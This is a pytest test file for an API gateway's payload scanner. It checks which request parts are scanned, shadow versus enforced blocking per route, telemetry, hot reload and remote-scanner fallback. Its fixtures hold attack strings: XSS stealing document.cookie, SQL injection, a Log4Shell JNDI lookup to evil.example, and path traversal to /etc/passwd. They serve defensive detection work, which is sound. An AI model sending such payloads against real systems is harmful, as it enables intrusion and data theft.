"""Payload scanning in the gateway: which values are scanned, shadow first, per-route
enforcement, telemetry fields, hot reload of the compact champion, and the remote path's
degradation when the scanning service is down or slow."""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest

from config.gateway import ScanningSettings
from features.request_parts import extract
from gateway.policy import PolicyError, parse_policy
from gateway.policy_store import PolicyStore
from gateway.scan import parse_record, verdict
from telemetry.store import TelemetryStore
from tests.gateway.conftest import Clock, key_headers, running, with_gateway

XSS = "<script>alert(document.cookie)</script>"


@pytest.fixture(scope="module")
def compact():
    """A real (small) scanner: a linear detector and class head fitted on 4,000 real
    payloads, exported in the compact form the gateway loads."""
    import numpy as np

    from models.data import payload_dataset
    from models.payload import compact_scanner, with_class_head
    from models.search import build_model

    ds = payload_dataset(synthetic_benign=1000)
    rows = np.random.default_rng(0).choice(len(ds.y), 6000, replace=False)
    X, y = ds.X.iloc[rows], ds.y.iloc[rows]
    p = {"family": "linear", "text": True, "C": 20.0, "class_weight": "balanced"}
    det = build_model(p, "binary", X, y)
    return compact_scanner(with_class_head(det, X, ds.detail.iloc[rows], 0.5), "4")


def _ctx(values):
    from features.payload import split_context

    return [split_context(v) for v in values]


def test_every_part_of_a_request_in_its_context():
    cfg = ScanningSettings()
    ex = extract("/v1/search", "q=red+shoes&page=2&x=%3Cb%3E", [], b"", None, cfg)
    assert _ctx(ex.values) == [("param", "red shoes"), ("param", "<b>")]  # plain 2 skipped
    body = json.dumps({"user": {"name": "O'Brien", "tags": ["a b", 5]}, "$where": 1}).encode()
    ex = extract("/v1/orders", "", [], body, "application/json; charset=utf-8", cfg)
    assert _ctx(ex.values) == [("param", "O'Brien"), ("param", "a b"), ("key", "$where")]
    form = b"name=O%27Brien&comment=%3Cscript%3E"
    ex = extract("/", "", [], form, "application/x-www-form-urlencoded", cfg)
    assert _ctx(ex.values) == [("param", "O'Brien"), ("param", "<script>")]
    assert extract("/v1/orders/42", "", [], b"\x89PNG", "image/png", cfg).values == []
    # multipart: field values, odd names and file names; a file's bytes are not content
    mp = (
        b'--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\nhi <b>there</b>\r\n'
        b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="../../x.sh"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n\x00\x01binary\r\n--XyZ--\r\n"
    )
    ex = extract("/up", "", [], mp, "multipart/form-data; boundary=XyZ", cfg)
    assert _ctx(ex.values) == [("param", "hi <b>there</b>"), ("param", "../../x.sh")]


def test_traversal_in_the_path_is_read_whole_and_decoded():
    cfg = ScanningSettings()
    for path in ("/v1/files/../../etc/passwd", "/v1/files/..%2F..%2Fetc%2Fpasswd"):
        ex = extract(path, "", [], b"", None, cfg)
        assert _ctx(ex.values) == [("path", "/v1/files/../../etc/passwd")], path
    # a `..` segment alone is enough: it is not a plain identifier any more
    assert _ctx(extract("/a/../b", "", [], b"", None, cfg).values) == [("path", "/a/../b")]
    assert extract("/v1/orders/42", "", [], b"", None, cfg).values == []


def test_headers_and_cookies_each_by_their_field():
    cfg = ScanningSettings()
    headers = [
        ("Host", "api.example.com"),
        ("Accept", "application/json, text/plain, */*"),
        ("Accept-Language", "en-US,en;q=0.9"),  # conforms to its grammar: nothing to read
        ("Accept-Encoding", "gzip, deflate, br"),
        ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
        ("X-Forwarded-For", "203.0.113.9, 10.0.0.1"),
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcDEF123xyz"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
        ("Referer", "https://shop.example/search?q=red%20shoes"),
        ("Cookie", "session=Zk3x9QpLr2M8vNw4; theme=dark mode; id=1' or '1'='1"),
        ("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        ("Accept-Language", "en'; DROP TABLE users--"),  # breaks its grammar: read it
        ("Content-Length", "12"),
    ]
    got = _ctx(extract("/v1/items", "", headers, b"", None, cfg).values)
    assert got == [
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
        ("referer", "https://shop.example/search?q=red%20shoes"),
        ("cookie", "dark mode"),
        ("cookie", "1' or '1'='1"),
        ("header", "${jndi:ldap://evil.example/a}"),
        ("header", "en'; DROP TABLE users--"),
    ]
    # auth parameters are read one by one; skip_headers and scan_headers switch reading off
    digest = [("Authorization", 'Digest username="x\' or 1=1--", realm="api"')]
    assert _ctx(extract("/", "", digest, b"", None, cfg).values) == [("header", "x' or 1=1--")]
    off = ScanningSettings(skip_headers=["X-Api-Version"])
    assert not any("jndi" in v for v in extract("/", "", headers, b"", None, off).values)


def test_budgets_leave_a_gap_never_a_silent_benign():
    cfg = ScanningSettings()
    # an attack in the 65th field is read (the old scanner stopped at 64)
    fields = "&".join(f"f{i}=value+{i}" for i in range(64)) + "&f64=1%27+or+%271%27%3D%271"
    ex = extract("/", fields, [], b"", None, cfg)
    assert len(ex.values) == 65 and ex.values[-1] == "1' or '1'='1" and not ex.gaps
    small = ScanningSettings(max_values=64)
    ex = extract("/", fields, [], b"", None, small)
    assert len(ex.values) == 64 and ex.gaps == ["query: more than 64 values"]
    # a body over the limit: a gap, and its strings read as far as the limit goes
    big = json.dumps({"items": [{"note": f"gift wrap {i}"} for i in range(5000)]}).encode()
    lim = ScanningSettings(max_body_bytes=4096)
    ex = extract("/o", "", [], big, "application/json", lim)
    assert ex.gaps and "over max_body_bytes 4096" in ex.gaps[0]
    assert 50 < len(ex.values) < 200 and all("gift wrap" in v for v in ex.values)
    # a long value is read in overlapping windows, not cut
    tail = "".join(f"word{i} " for i in range(1500)) + "<script>alert(1)</script>"
    ex = extract("/", "", [], json.dumps({"t": tail}).encode(), "application/json", cfg)
    assert len(tail) > 10_000 and all(len(v) <= cfg.max_value_bytes for v in ex.values)
    assert len(ex.values) == -(-len(tail) // (cfg.max_value_bytes - 64))
    assert "<script>alert(1)</script>" in ex.values[-1]
    # windows overlap: an attack across a window's edge is whole in one of them
    edge = "b" * (cfg.max_value_bytes - 10) + "<script>alert(1)</script>" + "c" * 5000
    ex = extract("/", "", [], json.dumps({"t": edge}).encode(), "application/json", cfg)
    assert any("<script>alert(1)</script>" in v for v in ex.values)
    # malformed JSON is still read string by string
    ex = extract("/", "", [], b'{"a": "x <svg onload=1>", "b": [', "application/json", cfg)
    assert _ctx(ex.values) == [("param", "x <svg onload=1>")]


def test_verdict_attack_beats_gap_and_gap_beats_benign():
    assert verdict(("benign", 0.1), ["body: too big"], "1", 3).label == "unscanned"
    r = verdict(("xss", 0.99), ["body: too big"], "1", 3)
    assert r.label == "xss" and r.gap is None
    assert verdict(("benign", 0.1), [], "1", 3).label == "benign"
    r = verdict(None, ["body: 2000000 bytes"], None, 0)
    assert r.label == "unscanned" and r.gap == "body: 2000000 bytes" and r.score is None


def test_parse_record_names_what_is_wrong():
    cfg = ScanningSettings()
    vals, gaps, kind = parse_record('{"method": "GET", "url": "/a?q=%27+x"}', cfg)
    assert (vals, gaps, kind) == (["' x"], [], "request")
    assert parse_record("plain value\n", cfg) == (["plain value"], [], "value")
    assert parse_record('{"not": "a request"}', cfg)[2] == "value"
    # a line that starts with a brace but is not JSON is a bare value, not an error
    assert parse_record("{{7*7}}", cfg) == (["{{7*7}}"], [], "value")
    assert parse_record("{broken", cfg)[2] == "value"
    with pytest.raises(ValueError, match="url"):
        parse_record('{"url": 5}', cfg)
    with pytest.raises(ValueError, match="headers"):
        parse_record('{"url": "/", "headers": []}', cfg)
    vals, _, _ = parse_record('{"url": "/x", "headers": {"User-Agent": "${jndi:x}"}}', cfg)
    assert _ctx(vals) == [("user-agent", "${jndi:x}")]


def test_policy_route_bands_validated_and_resolved():
    base = {"tiers": {"free": {"requests_per_minute": 60}}}
    doc = parse_policy(
        {
            **base,
            "targets": {
                "payload": {
                    "mode": "shadow",
                    "bands": [{"min_score": 0.5, "action": "log"}],
                    "routes": {"POST /v1/auth/login": {"mode": "enforce"}},
                }
            },
        }
    )
    t = doc.targets["payload"]
    assert t.route_band("POST", "/v1/auth/login", 0.7)[0] == "enforce"
    assert t.route_band("GET", "/v1/search", 0.7) == ("shadow", t.bands[0])
    with pytest.raises(PolicyError, match=r"targets\.payload.*routes: 'login'"):
        parse_policy({**base, "targets": {"payload": {"routes": {"login": {}}}}})
    with pytest.raises(PolicyError, match="bands"):
        parse_policy(
            {
                **base,
                "targets": {
                    "payload": {
                        "routes": {
                            "* /x": {
                                "bands": [
                                    {"min_score": 0.9, "action": "block"},
                                    {"min_score": 0.5, "action": "log"},
                                ]
                            }
                        }
                    }
                },
            }
        )


def _events(s):
    return TelemetryStore(s.telemetry_dir).read().to_pandas()


def test_shadow_first_then_enforced_on_one_route(gw_settings, compact):
    s, keys = gw_settings
    compact.save(s.scanner_path())
    alice = key_headers(keys["alice"])

    async def main():
        async with running(s, Clock()) as (gw, c):
            assert gw.status()["scanning"]["version"] == "4"
            benign = await c.get("/v1/search", params={"q": "red shoes"}, headers=alice)
            shadow = await c.get("/v1/search", params={"q": XSS}, headers=alice)
            plain = await c.get("/v1/orders/7", headers=alice)  # only its headers to read
            # enforce on search only; orders stay in shadow
            store = PolicyStore(s.policy_dir)
            pol = store.load()
            t = pol.targets["payload"]
            block = [{"min_score": 0.5, "action": "block"}]
            routes = {"GET /v1/search": {"mode": "enforce", "bands": block}}
            targets = {
                **pol.targets,
                "payload": t.model_validate({**t.model_dump(), "routes": routes}),
            }
            store.publish(pol.model_copy(update={"targets": targets}), author="t", reason="enforce")
            assert gw.reload_policy()
            blocked = await c.get("/v1/search", params={"q": XSS}, headers=alice)
            body = json.dumps({"item": "x", "note": XSS})
            other = await c.post(
                "/v1/orders", content=body, headers={**alice, "content-type": "application/json"}
            )
            return benign, shadow, plain, blocked, other

    benign, shadow, plain, blocked, other = asyncio.run(main())
    assert benign.status_code == shadow.status_code == plain.status_code == 200
    assert blocked.status_code == 403 and blocked.json()["error"] == "scan_block"
    assert "xss" in blocked.json()["detail"]
    assert other.status_code in (200, 201)  # shadow on orders: recorded, not refused
    ev = _events(s)
    ev["policy_version"] = ev["policy_version"].astype(int)
    benign_ev = ev[ev["url_query"].fillna("").str.contains("red")].iloc[0]
    xss_get = ev[(ev["url_path"] == "/v1/search") & ev["url_query"].str.contains("script")]
    xss_get = xss_get.sort_values("policy_version")
    post = ev[ev["http_request_method"] == "POST"].iloc[0]
    assert benign_ev["scan_label"] == "benign" and benign_ev["scan_score"] < 0.5
    assert pd_isna(benign_ev["scan_action"])
    assert xss_get["scan_label"].tolist() == ["xss", "xss"] and post["scan_label"] == "xss"
    # the default bands (log 0.5, challenge 0.9, block 0.99), in shadow where not enforced
    score = compact.score_one(XSS)[1]
    assert score >= 0.9 and abs(xss_get["scan_score"].iloc[0] - score) < 1e-6
    shadow_action = "shadow_block" if score >= 0.99 else "shadow_challenge"
    assert xss_get["scan_action"].tolist() == [shadow_action, "block"]
    assert xss_get["ratelimit_decision"].iloc[1] == "scan_block"
    assert post["scan_action"] == shadow_action
    # headers are read too: the client's User-Agent, judged as a User-Agent, is benign
    assert ev.loc[ev["url_path"] == "/v1/orders/7", "scan_label"].tolist() == ["benign"]


def pd_isna(v):
    import pandas as pd

    return pd.isna(v)


def test_gateway_picks_up_a_new_export(gw_settings, compact):
    s, keys = gw_settings
    path = s.scanner_path()
    path.unlink(missing_ok=True)

    async def main():
        async with running(s, Clock()) as (gw, c):
            h = key_headers(keys["alice"])
            before = await c.get("/v1/search", params={"q": XSS}, headers=h)
            st0 = gw.status()["scanning"]
            compact.save(path)
            gw.local_scanner.reload()  # what the watcher task does every poll_s
            after = await c.get("/v1/search", params={"q": XSS}, headers=h)
            return before, after, st0, gw.status()["scanning"]

    before, after, st0, st1 = asyncio.run(main())
    assert before.status_code == after.status_code == 200
    assert st0["version"] is None and "no compact scanner" in st0["error"]
    assert st1["version"] == "4" and st1["reloads"] == 1
    ev = _events(s)
    assert sorted(ev["scan_label"].fillna("-")) == ["-", "xss"]


class FakeScanService:
    """Stands in for the BentoML service's /scan (an upstream of the gateway)."""

    def __init__(self, mode: str = "up") -> None:
        self.mode = mode
        self.calls = 0

    def handler(self, request: httpx.Request) -> httpx.Response:
        self.calls += 1
        assert request.url.path == "/scan"
        if self.mode == "down":
            return httpx.Response(503, json={"error": "no model"})
        if self.mode == "slow":
            raise httpx.ReadTimeout("too slow", request=request)
        values = json.loads(request.content)["values"]
        results = [
            {
                "label": "xss" if "<script" in v else "benign",
                "score": 0.999 if "<script" in v else 0.01,
            }
            for v in values
        ]
        return httpx.Response(200, json={"model_version": "9", "results": results})


def _remote(s, failure_mode="open"):
    sc = s.gateway.scanning.model_copy(update={"mode": "remote", "failure_mode": failure_mode})
    return with_gateway(s, scanning=sc)


def _enforce_payload(s):
    store = PolicyStore(s.policy_dir)
    from gateway.policy import initial_policy

    pol = initial_policy(s)
    t = pol.targets["payload"].model_copy(update={"mode": "enforce"})
    store.publish(
        pol.model_copy(update={"targets": {**pol.targets, "payload": t}}), author="t", reason="t"
    )


@pytest.mark.parametrize("mode", ["down", "slow"])
def test_remote_scanner_down_or_slow_degrades_per_config(gw_settings, mode):
    s, keys = gw_settings
    svc = FakeScanService(mode)

    async def main(cfg):
        _enforce_payload(cfg)
        async with running(cfg, Clock(), svc) as (gw, c):
            h = key_headers(keys["alice"])
            codes = [
                (await c.get("/v1/search", params={"q": XSS}, headers=h)).status_code
                for _ in range(5)
            ]
            return codes, gw.remote_scanner.breaker.state

    codes, state = asyncio.run(main(_remote(s, "open")))
    assert codes == [200] * 5 and state == "open"
    assert svc.calls == 3  # the breaker opened after three failures: no more calls
    ev = _events(s)
    assert set(ev["scan_label"]) == {"unavailable"} and ev["scan_score"].isna().all()
    svc.calls = 0
    codes, _ = asyncio.run(main(_remote(s, "closed")))
    assert codes == [503] * 5


def test_remote_scanner_up_enforces_its_verdict(gw_settings):
    s, keys = gw_settings
    svc = FakeScanService("up")

    async def main():
        cfg = _remote(s)
        _enforce_payload(cfg)
        async with running(cfg, Clock(), svc) as (_, c):
            h = key_headers(keys["alice"])
            ok = await c.get("/v1/search", params={"q": "O'Brien"}, headers=h)
            bad = await c.get("/v1/search", params={"q": XSS}, headers=h)
            return ok, bad

    ok, bad = asyncio.run(main())
    assert ok.status_code == 200 and bad.status_code == 403
    assert bad.json()["error"] == "scan_block"


def test_throttle_band_on_the_payload_target_is_refused_by_name():
    base = {"tiers": {"free": {"requests_per_minute": 60}}}
    bad = {"min_score": 0.9, "action": "throttle"}
    with pytest.raises(PolicyError, match=r"targets\.payload\.bands: action 'throttle'"):
        parse_policy({**base, "targets": {"payload": {"bands": [bad]}}})
    with pytest.raises(PolicyError, match=r"routes\.GET /v1/search\.bands: action 'throttle'"):
        parse_policy(
            {**base, "targets": {"payload": {"routes": {"GET /v1/search": {"bands": [bad]}}}}}
        )
    # the abuse target keeps throttle bands
    parse_policy({**base, "targets": {"abuse": {"bands": [bad]}}})


def test_a_route_switched_off_is_not_scanned(gw_settings, compact):
    s, keys = gw_settings
    compact.save(s.scanner_path())
    store = PolicyStore(s.policy_dir)
    from gateway.policy import initial_policy

    pol = initial_policy(s)
    t = pol.targets["payload"].model_validate(
        {**pol.targets["payload"].model_dump(), "routes": {"GET /v1/search": {"mode": "off"}}}
    )
    store.publish(
        pol.model_copy(update={"targets": {**pol.targets, "payload": t}}), author="t", reason="t"
    )

    async def main():
        async with running(s, Clock()) as (_, c):
            h = key_headers(keys["alice"])
            off = await c.get("/v1/search", params={"q": XSS}, headers=h)
            on = await c.get("/v1/products", params={"q": XSS}, headers=h)
            return off, on

    off, on = asyncio.run(main())
    assert off.status_code == on.status_code == 200
    ev = _events(s)
    assert ev.loc[ev["url_path"] == "/v1/search", "scan_label"].isna().all()
    assert ev.loc[ev["url_path"] == "/v1/products", "scan_label"].tolist() == ["xss"]


def test_attacks_in_headers_cookies_and_path_are_caught_live(gw_settings, compact):
    s, keys = gw_settings
    compact.save(s.scanner_path())
    h = key_headers(keys["alice"])

    async def main():
        async with running(s, Clock()) as (_, c):
            await c.get("/v1/products", params={"n": 1}, headers={**h, "user-agent": XSS})
            await c.get("/v1/products", params={"n": 2}, headers={**h, "cookie": f"pref={XSS}"})
            await c.get("/v1/products/..%5C..%5Cwindows%5Cwin.ini", params={"n": 3}, headers=h)
            await c.get(
                "/v1/products",
                params={"n": 4, "since": "2026-11-02T10:00:00Z"},
                headers={**h, "accept-language": "en-US,en;q=0.9", "cookie": "theme=dark"},
            )

    asyncio.run(main())
    ev = _events(s)
    label = {
        q.split("n=")[1][0]: lab for q, lab in zip(ev["url_query"], ev["scan_label"], strict=False)
    }
    assert label["1"] == "xss" and label["2"] == "xss" and label["4"] == "benign"
    assert label["3"] not in ("benign", None)  # the traversal in the path is read


def test_unscanned_is_recorded_counted_and_acts_where_enforced(gw_settings, compact):
    s, keys = gw_settings
    compact.save(s.scanner_path())
    h = {**key_headers(keys["alice"]), "content-type": "application/json"}
    big = json.dumps({"lines": [f"gift wrap {i}" for i in range(400)]})
    sc = s.gateway.scanning.model_copy(update={"max_values": 50})
    cfg = with_gateway(s, scanning=sc)
    store = PolicyStore(cfg.policy_dir)
    from gateway.policy import initial_policy

    pol = initial_policy(cfg)
    t = pol.targets["payload"].model_validate(
        {
            **pol.targets["payload"].model_dump(),
            "routes": {"POST /v1/orders": {"mode": "enforce", "unscanned": "challenge"}},
        }
    )
    store.publish(
        pol.model_copy(update={"targets": {**pol.targets, "payload": t}}), author="t", reason="t"
    )

    async def main():
        async with running(cfg, Clock()) as (_, c):
            shadow = await c.put("/v1/orders/7", content=big, headers=h)
            enforced = await c.post("/v1/orders", content=big, headers=h)
            small = await c.post("/v1/orders", content='{"note": "gift wrap"}', headers=h)
            metrics = (await c.get("/metrics")).text
            return shadow, enforced, small, metrics

    shadow, enforced, small, metrics = asyncio.run(main())
    assert shadow.status_code != 403  # shadow (the default) only records
    assert enforced.status_code == 403 and enforced.json()["error"] == "scan_challenge"
    assert "unscanned" in enforced.json()["detail"] and "more than 50" in enforced.json()["detail"]
    assert small.status_code in (200, 201)
    assert 'gatewise_scan_unscanned_total{reason="json"} 2' in metrics
    ev = _events(cfg)
    put = ev[ev["http_request_method"] == "PUT"].iloc[0]
    post = ev[ev["http_request_method"] == "POST"]
    assert put["scan_label"] == "unscanned" and put["scan_action"] == "log"  # the default
    assert put["scan_gap"] == "json body: more than 50 values"
    assert sorted(post["scan_label"]) == ["benign", "unscanned"]
    assert post.loc[post["scan_label"] == "unscanned", "scan_action"].tolist() == ["challenge"]


def test_query_pairs_match_parse_qsl():
    from urllib.parse import parse_qsl

    from features.request_parts import query_pairs

    for q in ["a=1&b=&c=x+y&d=%27&e", "q=red+shoes&page=2&x=%3Cb%3E", "&&a=1&=2&k%20=v", "a=1;b=2"]:
        assert query_pairs(q) == parse_qsl(q), q
